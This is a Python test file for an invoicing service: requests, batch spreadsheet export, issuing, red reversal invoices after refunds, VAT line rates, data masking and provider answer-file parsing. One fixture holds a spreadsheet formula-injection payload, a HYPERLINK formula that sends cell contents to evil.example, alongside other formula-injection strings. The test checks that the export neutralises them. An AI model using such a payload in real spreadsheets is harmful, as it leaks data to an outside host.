"""An invoice from its request to the red one that takes it back."""

from collections.abc import Awaitable, Callable
from typing import Any

import httpx
from sqlalchemy import func, select, text, update

from app.catalog.models import ProductVatRate
from app.core.db import Database
from app.core.exporting import ExportTaken
from app.core.ids import public_single, read_pair
from app.core.jobs import JobContext
from app.identity.models import AccessLogEntry, Role
from app.invoices.jobs import find_over
from app.invoices.models import InvoiceMove, InvoiceRequest
from app.notifications.models import SmsMessage
from tests.factories import orders
from tests.factories.invoices import (
    COMPANY,
    NUMBER,
    RED,
    ask,
    finance,
    person,
    rows_of,
    see,
    wanted,
    workbook,
)
from tests.factories.world import MORNING, TODAY, World, once
from tests.fixtures.invariants import assert_invariants
from tests.fixtures.payments import Payments
from tests.orders.conftest import Deliver, pay

Drain = Callable[[], Awaitable[list[str]]]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


async def count(database: Database) -> int:
    async with database.transaction() as session:
        return await session.scalar(select(func.count()).select_from(InvoiceRequest)) or 0


async def hold(database: Database) -> None:
    async with database.transaction() as session:
        await assert_invariants(session, MORNING, only={"I1", "I2", "I3", "I5", "I6"})


async def batch_of(client: httpx.AsyncClient, world: World) -> dict[str, Any]:
    made = await finance(client, world, "/invoice-batches")
    assert made.status_code == 201, made.text
    batch: dict[str, Any] = made.json()
    return batch


async def issue(client: httpx.AsyncClient, world: World, order: dict[str, Any]) -> dict[str, Any]:
    """All of an order is asked for, exported and issued."""
    invoice = (await ask(client, order, world.household)).json()
    await batch_of(client, world)
    said = {
        "number": NUMBER,
        "issued_date": str(TODAY),
        "pdf_url": "https://fp.example.cn/1.pdf",
    }
    issued = await finance(client, world, f"/invoices/{invoice['id']}/issue", said)
    assert (issued.status_code, issued.json()["state"]) == (200, "issued"), issued.text
    found: dict[str, Any] = issued.json()
    return found


async def test_an_invoice_is_asked_for_exported_and_issued(
    client: httpx.AsyncClient, world: World, paid_order: Deliver, database: Database
) -> None:
    order = await paid_order()
    early = await finance(client, world, "/invoice-batches")
    assert (early.status_code, early.json()["code"]) == (409, "nothing_to_export")
    invoice = await issue(client, world, order)
    assert (invoice["amount_fen"], invoice["tax_fen"]) == (10_500, 867)
    assert [line["net_fen"] for line in invoice["lines"]] == [9_633]
    assert invoice["title"] == "上**", "an answer that is kept carries no personal data"
    own = await client.get(f"/orders/{order['id']}/invoices", headers=world.household.headers)
    shown = own.json()
    assert (shown["paid_fen"], shown["asked_fen"], shown["rest_fen"]) == (10_500, 10_500, 0)
    assert (shown["items"][0]["tax_number"], shown["items"][0]["label"]) == (COMPANY, "已开票")
    [batch] = (await see(client, world, "/invoice-batches", Role.AUDITOR))["items"]
    assert batch["batch_no"] == f"FP{TODAY:%Y%m%d}-001"
    assert (batch["requests"], batch["amount_fen"]) == (1, 10_500)
    late = await client.post(
        f"/invoices/{invoice['id']}/cancel", headers=world.household.headers | once()
    )
    assert (late.status_code, late.json()["code"]) == (409, "move_not_allowed")
    async with database.transaction() as session:
        told = await session.scalars(
            select(SmsMessage.template).where(SmsMessage.template.startswith("invoice_"))
        )
        assert list(told) == ["invoice_issued"]
    assert (await see(client, world, "/invoice-corrections"))["items"] == []
    await hold(database)


async def test_a_refund_after_issuing_asks_for_a_red_invoice(
    client: httpx.AsyncClient,
    world: World,
    paid_order: Deliver,
    database: Database,
    payments: Payments,
    drain_jobs: Drain,
) -> None:
    order = await paid_order()
    invoice = await issue(client, world, order)
    await orders.change(client, order["id"], world.household, kind="cancel")
    await drain_jobs()
    await payments.finish_refunds()
    await drain_jobs()
    [to_correct] = (await see(client, world, "/invoice-corrections", Role.AUDITOR))["items"]
    assert (to_correct["id"], to_correct["over_fen"]) == (invoice["id"], 10_500)
    await hold(database)
    path = f"/invoices/{invoice['id']}/reverse"
    red = {"number": RED, "issued_date": str(TODAY), "reason": "订单退订"}
    taken = await finance(client, world, path, red | {"number": NUMBER})
    assert (taken.status_code, taken.json()["code"]) == (409, "invoice_number_taken")
    back = await finance(client, world, path, red)
    assert (back.status_code, back.json()["over_since"]) == (200, None)
    assert [move["state"] for move in back.json()["history"]] == [
        "requested",
        "exported",
        "issued",
        "reversed",
    ]
    assert (await see(client, world, "/invoice-corrections"))["items"] == []
    nothing = await ask(client, order, world.household)
    assert (nothing.status_code, nothing.json()["code"]) == (409, "invoice_amount_above_rest")
    copy = await client.get("/me/export", headers=world.household.headers)
    assert copy.json()["invoices"][0]["tax_number"] == COMPANY
    erased = await client.delete("/me", headers=world.household.headers)
    assert erased.status_code == 204, erased.text
    kept = await see(client, world, f"/invoices/{invoice['id']}")
    assert (kept["title"], kept["email"]) == ("上**", None), "the books keep the title alone"
    await hold(database)


async def test_lines_have_the_rates_their_products_were_bought_under(
    client: httpx.AsyncClient,
    world: World,
    database: Database,
    payments: Payments,
    drain_jobs: Drain,
) -> None:
    async with database.transaction() as session:
        await session.execute(
            update(ProductVatRate)
            .where(ProductVatRate.product_id == world.yogurt_id)
            .values(permille=130)
        )
    body = orders.order_body(world, world.household, bottles=10)
    yogurt = public_single("prd", world.yogurt_id)
    body["lines"].append(orders.line(world, product_id=yogurt, bottles=10))
    headers = world.household.headers
    order = (await client.post("/orders", json=body, headers=headers | once())).json()
    await pay(client, payments, order["id"], world.household)
    await payments.deliver_notifications()
    await drain_jobs()
    async with database.transaction() as session:
        await session.execute(update(ProductVatRate).values(permille=60))
    whole = (await ask(client, order, world.household)).json()
    assert [(one["vat_permille"], one["amount_fen"], one["tax_fen"]) for one in whole["lines"]] == [
        (90, 3_500, 289),
        (130, 4_200, 483),
    ]
    assert (whole["amount_fen"], whole["tax_fen"]) == (7_700, 772)
    await client.post(f"/invoices/{whole['id']}/cancel", headers=headers | once())
    part = (await ask(client, order, world.household, person(amount_fen=101))).json()
    assert [one["amount_fen"] for one in part["lines"]] == [46, 55]
    await hold(database)


async def test_a_request_is_made_once_and_never_above_what_is_left(
    client: httpx.AsyncClient, world: World, paid_order: Deliver, database: Database
) -> None:
    order = await paid_order()
    headers = world.household.headers | once()
    path = f"/orders/{order['id']}/invoices"
    body = person(amount_fen=4_000)
    first, second = [await client.post(path, json=body, headers=headers) for _ in range(2)]
    assert (first.status_code, second.status_code) == (201, 201)
    assert first.json() == second.json()
    over = await ask(client, order, world.household, person(amount_fen=6_501))
    assert (over.status_code, over.json()["code"]) == (409, "invoice_amount_above_rest")
    assert over.json()["facts"]["rest_fen"] == 6_500
    assert await count(database) == 1
    withdrawn = await client.post(
        f"/invoices/{first.json()['id']}/cancel", headers=world.household.headers | once()
    )
    assert withdrawn.json()["state"] == "cancelled"
    whole = await ask(client, order, world.household)
    assert whole.json()["amount_fen"] == 10_500
    await hold(database)


async def test_wrong_titles_and_foreign_or_unpaid_orders_are_refused(
    client: httpx.AsyncClient, world: World, paid_order: Deliver, database: Database
) -> None:
    order = await paid_order()
    wrong = await ask(client, order, world.household, wanted(tax_number="91310000607378470C"))
    assert (wrong.status_code, wrong.json()["code"]) == (400, "tax_number_wrong")
    bare = await ask(client, order, world.household, wanted(tax_number=None))
    assert (bare.status_code, bare.json()["code"]) == (400, "invoice_title_incomplete")
    nowhere = await ask(client, order, world.household, wanted(email=None))
    assert nowhere.json()["code"] == "validation_failed", nowhere.text
    async with database.transaction() as session:
        stranger = await world.add_household(session)
    foreign = await ask(client, order, stranger)
    assert foreign.status_code == 404
    unpaid = await orders.place(client, world)
    early = await ask(client, unpaid, world.household)
    assert (early.status_code, early.json()["code"]) == (409, "order_not_confirmed")
    assert await count(database) == 0
    invoice = (
        await ask(client, order, world.household, wanted(tax_number=" ９1310000 6073784701"))
    ).json()
    for path in (f"/invoices/{invoice['id']}", f"/orders/{order['id']}/invoices"):
        assert (await client.get(path, headers=stranger.headers)).status_code == 404
    assert (await client.get("/invoices", headers=stranger.headers)).json()["items"] == []
    shown = await client.get(f"/invoices/{invoice['id']}", headers=world.household.headers)
    assert shown.json()["tax_number"] == COMPANY
    masked = await see(client, world, f"/invoices/{invoice['id']}", Role.AUDITOR)
    assert (masked["title"], masked["tax_number"], masked["email"]) == (
        "上**",
        "****4701",
        "c**@example.cn",
    )


async def test_a_batch_opens_as_text_and_is_the_same_each_time(
    client: httpx.AsyncClient, world: World, paid_order: Deliver, database: Database
) -> None:
    order = await paid_order()
    for name in (FORMULA, "＝1+1", "@SUM(A1)"):
        body = wanted(title=name, amount_fen=1_000)
        assert (await ask(client, order, world.household, body)).status_code == 201
    batch = await batch_of(client, world)
    rows = await rows_of(client, world, batch["id"])
    names = [cell.value for cell in rows[0]]
    title, amount, asked = (names.index(name) for name in ("购买方名称", "含税金额", "申请日期"))
    assert {row[title].value for row in rows[1:]} == {FORMULA, "＝1+1", "@SUM(A1)"}
    for row in rows[1:]:
        assert (row[title].data_type, row[title].quotePrefix) == ("s", True)
        assert all(cell.data_type != "f" for cell in row)
        assert (row[amount].value, row[amount].number_format) == (10, "0.00")
        assert row[asked].is_date
    again = await rows_of(client, world, batch["id"])
    assert [[cell.value for cell in row] for row in again] == [
        [cell.value for cell in row] for row in rows
    ]
    seen = await see(client, world, f"/invoice-batches/{batch['id']}", Role.AUDITOR)
    assert [one["rows"] for one in seen["taken"]] == [3, 3]
    async with database.transaction() as session:
        assert await session.scalar(select(func.count()).select_from(ExportTaken)) == 2
        looks = await session.scalars(select(AccessLogEntry.subject))
        assert list(looks) == ["invoice", "invoice"]


async def test_the_provider_s_answers_are_taken_and_wrong_rows_listed(
    client: httpx.AsyncClient, world: World, paid_order: Deliver, database: Database
) -> None:
    order = await paid_order()
    bodies = [person(amount_fen=1_000), person(amount_fen=2_000), wanted(amount_fen=3_000)]
    ids = [(await ask(client, order, world.household, body)).json()["id"] for body in bodies]
    batch = await batch_of(client, world)
    path = f"/invoice-batches/{batch['id']}/answers"
    headers = world.staff[Role.FINANCE].headers
    text_file = "\n".join(
        [
            "申请编号,发票号码,开票日期,下载地址,失败原因",
            f"{ids[0]},{NUMBER},{TODAY},https://fp.example.cn/1.pdf,",
            f"{ids[1]},,,,名称有误",
            f"{ids[2]},{NUMBER},{TODAY},,",
            f"inv_nothing,{RED},{TODAY},,",
            f"{ids[2]},123,{TODAY},,",
        ]
    ).encode("gb18030")
    taken = await client.post(path, content=text_file, headers=headers | once())
    assert taken.status_code == 200, taken.text
    assert taken.json() == {
        "issued": 1,
        "rejected": 1,
        "known": 0,
        "wrong": [
            {"line_no": 4, "reason": "发票号码已用于另一张发票"},
            {"line_no": 5, "reason": "申请编号有误"},
            {"line_no": 6, "reason": "与第 4 行不一致"},
        ],
    }
    book = workbook(
        ("申请编号", "发票号码", "开票日期"),
        (ids[0], NUMBER, TODAY),
        (ids[2], RED, TODAY),
    )
    mended = await client.post(path, content=book, headers=headers | once())
    assert mended.json() == {"issued": 1, "rejected": 0, "known": 1, "wrong": []}
    broken = await client.post(path, content=b"PK\x03\x04nonsense", headers=headers | once())
    assert (broken.status_code, broken.json()["code"]) == (400, "answer_file_unreadable")
    states = await see(
        client, world, f"/invoices?batch={batch['id']}&from_date={TODAY}&to_date={TODAY}"
    )
    assert sorted(one["state"] for one in states["items"]) == ["issued", "issued", "rejected"]
    own = (
        await client.get(f"/orders/{order['id']}/invoices", headers=world.household.headers)
    ).json()
    assert (own["asked_fen"], own["rest_fen"]) == (4_000, 6_500)
    async with database.transaction() as session:
        told = await session.scalars(
            select(SmsMessage.template)
            .where(SmsMessage.template.startswith("invoice_"))
            .order_by(SmsMessage.template)
        )
        assert list(told) == ["invoice_issued", "invoice_issued", "invoice_rejected"]
    await hold(database)


async def test_money_that_goes_back_keeps_a_waiting_request_out_of_the_batch(
    client: httpx.AsyncClient,
    world: World,
    paid_order: Deliver,
    database: Database,
    job_context: JobContext,
) -> None:
    order = await paid_order()
    invoice = (await ask(client, order, world.household)).json()
    customer_id, _ = read_pair("ord", order["id"])
    await orders.change(client, order["id"], world.household, kind="cancel")
    refused = await finance(client, world, "/invoice-batches")
    assert (refused.status_code, refused.json()["code"]) == (409, "nothing_to_export")
    await find_over(job_context, {})
    [waits] = (await see(client, world, "/invoice-corrections"))["items"]
    assert (waits["id"], waits["state"]) == (invoice["id"], "requested")
    rejected = await finance(
        client, world, f"/invoices/{invoice['id']}/reject", {"reason": "订单已退订"}
    )
    assert (rejected.status_code, rejected.json()["reason"]) == (200, "订单已退订")
    assert (await see(client, world, "/invoice-corrections"))["items"] == []
    async with database.transaction() as session:
        moves = await session.scalars(
            select(InvoiceMove.to_state).where(InvoiceMove.customer_id == customer_id)
        )
        assert len(list(moves)) == 2
        assert await session.scalar(text("SELECT count(*) FROM invoice_batches")) == 0
    await hold(database)
